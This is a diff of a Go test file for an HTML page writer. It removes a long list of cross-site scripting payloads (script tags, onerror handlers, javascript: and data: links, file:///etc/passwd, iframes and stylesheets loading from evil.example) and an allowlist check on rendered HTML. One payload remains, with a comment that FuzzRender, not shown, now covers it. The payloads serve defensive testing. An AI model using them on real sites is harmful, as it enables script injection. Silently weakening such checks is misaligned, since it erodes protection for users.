@@ -56,7 +56,6 @@ func TestWrite_HasWhatDocumentsSay(t *testing.T) {
 	}
 }
 
-// The health view shows what lint, questions and hooks have found.
 // External docs are searched, so they are on the page, marked as such.
 func TestWrite_HasExternalDocs(t *testing.T) {
 	t.Parallel()
@@ -131,6 +130,7 @@ func TestWrite_HasStemsAndEditAddress(t *testing.T) {
 	}
 }
 
+// The health view shows what lint, questions and hooks have found.
 func TestWrite_HasWhatIsWrong(t *testing.T) {
 	t.Parallel()
 	f := setup(t, map[string]string{
@@ -172,30 +172,11 @@ func TestWrite_HasWhatIsWrong(t *testing.T) {
 }
 
 // Hostile texts, titles and names of files change nothing: the page has its own scripts, and its policy
-// allows them alone. The HTML of a document holds no element, attribute or URL that does anything.
+// allows them alone. FuzzRender tries the HTML of documents.
 func TestWrite_RunsNothingOfTheDocuments(t *testing.T) {
 	t.Parallel()
 	const title = "title: '</script></title><script>alert(1)</script><img src=x onerror=alert(2)>{{.}}`'"
-	hostile := map[string]string{}
-	for i, text := range []string{
-		"<script>alert(1)</script>\n\nText <script src=//evil.example/x.js></script>",
-		"<img src=x onerror=alert(1)> ![a](https://evil.example/x.png \"t\") [![b](javascript:alert(1))](javascript:alert(2))",
-		"[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](<java\tscript:alert(1)>) [e](vbscript:x)",
-		"[a](data:text/html,<script>alert(1)</script>) [b](data:image/png;base64,AA) [c](file:///etc/passwd) [d](//evil.example/x)",
-		"<a href=javascript:alert(1)>a</a> <a href=' &#1; javascript:alert(1)'>b</a> <a href=//evil.example>c</a> <a href='\\\\evil\\x'>d</a>",
-		"<p onclick=alert(1) style='position:fixed' class=x>a</p> <details open ontoggle=alert(1)>b</details>",
-		"<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><base href=https://evil.example>",
-		"<form action=https://evil.example><input name=a><button>b</button></form><meta http-equiv=refresh content='0;url=//evil.example'>",
-		"<svg><script>alert(1)</script><a xlink:href=javascript:alert(1)>a</a></svg><math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-		"<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example/x.css>\n\n# Head <h1 id=content>clobbers</h1>",
-		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><!-- --!><img src=x onerror=alert(1)> -->",
-		"| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<script>` |\n\n```html\n<script>alert(1)</script>\n```\n\n</script><!--",
-		"[[javascript:alert(1)]] [[//evil.example/x|a]] ![[x.png\"onerror=alert(1)]] [[a#\" onclick=alert(1) x=\"|b]] [[<script>alert(1)</script>]]",
-		"[ref]\n\n[ref]: javascript:alert(1)\n\n<javascript:alert(1)> <https://evil.example/\"onclick=alert(1)>",
-		strings.Repeat("[", 5_000) + "<script>alert(1)</script>",
-	} {
-		hostile[fmt.Sprintf("notes/%d.md", i)] = "---\n" + title + "\n---\n" + text + "\n"
-	}
+	hostile := map[string]string{"notes/0.md": "---\n" + title + "\n---\n<script>alert(1)</script> <!-- <iframe src=//evil.example>\n"}
 	hostile[`notes/a"onload=alert(1) <b>'%3Cscript%3E#?.md`] = "---\n" + title + "\ntags: ['</script>', '<b>']\nfield: '</script><script>'\n---\nText\n"
 	f := setup(t, hostile)
 	f.Must(f.recalls.AddQuestion(t.Context(), f.Root, "</script><script>alert(1)</script>", time.Now()))
@@ -204,13 +185,6 @@ func TestWrite_RunsNothingOfTheDocuments(t *testing.T) {
 		t.Errorf("%d documents, want %d", len(w.content.Documents), len(hostile))
 	}
 	checkElements(t, w)
-	for _, d := range w.content.Documents {
-		parsed, err := html.Parse(strings.NewReader(d.HTML))
-		f.Must(err)
-		for node := range parsed.Descendants() {
-			checkHarmless(t, d, node)
-		}
-	}
 }
 
 // checkElements checks that a page has the scripts that its policy allows, and nothing that loads.
@@ -241,24 +215,6 @@ func checkElements(t *testing.T, w written) {
 	}
 	if want := "default-src 'none'; base-uri 'none'; form-action 'none'; img-src data:; " + allowed; policy != want || scripts != 10 {
 		t.Errorf("with %d scripts the policy is %q, want %q", scripts, policy, want)
-	}
-}
-
-func checkHarmless(t *testing.T, d document, node *html.Node) {
-	t.Helper()
-	harmless := strings.Fields("html head body p br hr h1 h2 h3 h4 h5 h6 blockquote pre code em i strong b del ins s sub sup kbd samp var mark " +
-		"small q details summary dl dt dd ul ol li table thead tbody tfoot tr th td caption col colgroup a")
-	if node.Type == html.ElementNode && !slices.Contains(harmless, node.Data) {
-		t.Errorf("%s has <%s>: %s", d.Path, node.Data, d.HTML)
-	}
-	for _, a := range node.Attr {
-		switch {
-		case a.Key == "href" && (strings.HasPrefix(a.Val, "#/doc/") || strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "mailto:")):
-		case a.Key == "id" && strings.HasPrefix(a.Val, "h-"), a.Key == "data-line", a.Key == "data-language" && a.Val == "html":
-		case slices.Contains([]string{"rel", "target", "align", "title", "colspan", "rowspan", "start", "open"}, a.Key):
-		default:
-			t.Errorf("%s has <%s %s=%q>", d.Path, node.Data, a.Key, a.Val)
-		}
 	}
 }
 
